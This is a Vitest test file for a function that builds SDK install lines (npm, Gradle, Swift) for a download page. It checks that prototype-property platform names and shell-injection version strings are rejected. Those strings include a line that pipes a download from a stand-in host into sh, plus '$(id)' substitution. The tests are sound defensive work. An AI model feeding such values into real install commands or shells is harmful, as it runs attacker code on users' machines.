import { expect, it } from 'vitest';
import { installLine } from '../../../pages/sdk/app/installs.ts';

it('the line that installs a package names it and its version, on platforms with a package manager', () => {
  const line = (platform: string) => installLine({ download: { platform, version: '10.6.2' }, pack: 'im' });
  expect(line('Web')).toBe('npm install @yunqiao/im@10.6.2');
  expect(line('Android')).toBe('implementation("com.yunqiao:im:10.6.2")');
  expect(line('iOS')).toBe('.package(url: "https://opensource.yunqiao.example/im-ios", exact: "10.6.2")');
  expect(line('Windows')).toBeNull();
});

it('there is no line for a platform by a name of every object, and none for a version that a shell would run', () => {
  const line = (platform: string, version: string) => installLine({ download: { platform, version }, pack: 'im' });
  for (const platform of ['constructor', '__proto__', 'toString']) expect(line(platform, '10.6.2')).toBeNull();
  for (const version of ['1; curl evil.example | sh', '1\ncurl evil.example', '$(id)', '1" && id', '-g', ''])
    expect(line('Web', version)).toBeNull();
  expect(line('Web', '2.0.0-beta.1+7')).toBe('npm install @yunqiao/im@2.0.0-beta.1+7');
});
